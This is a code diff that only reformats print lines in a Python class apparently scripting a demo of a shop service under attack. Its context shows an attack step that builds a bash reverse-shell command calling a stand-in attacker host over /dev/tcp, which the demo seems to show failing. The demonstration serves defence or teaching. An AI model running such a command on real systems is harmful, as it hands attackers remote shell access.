@@ -75,7 +75,9 @@ class Story:
         self._show_for(observer, BENIGN_S)
         last = customer.lines[-1]
         alerts = len(observer.read().alerts)
-        self._screen.step(f"{last['requests']} requests, {last['failed']} failed, {alerts} alerts: all is well")
+        self._screen.step(
+            f"{last['requests']} requests, {last['failed']} failed, {alerts} alerts: all is well"
+        )
 
     def _attack(self, observer: Observer, attacker: Reader) -> None:
         command = f"bash -c 'bash -i >& /dev/tcp/{ATTACKER_NAME}/{SHELL_PORT} 0>&1'"
@@ -103,7 +105,9 @@ class Story:
         self._show_for(observer, SILENCE_S)
         last = customer.lines[-1]
         served = last["requests"] - before
-        self._screen.step(f"... and gets nothing; the shop answered {served} more requests, {last['failed']} failed")
+        self._screen.step(
+            f"... and gets nothing; the shop answered {served} more requests, {last['failed']} failed"
+        )
 
     def _show_for(self, observer: Observer, seconds: float) -> None:
         end = time.monotonic() + seconds
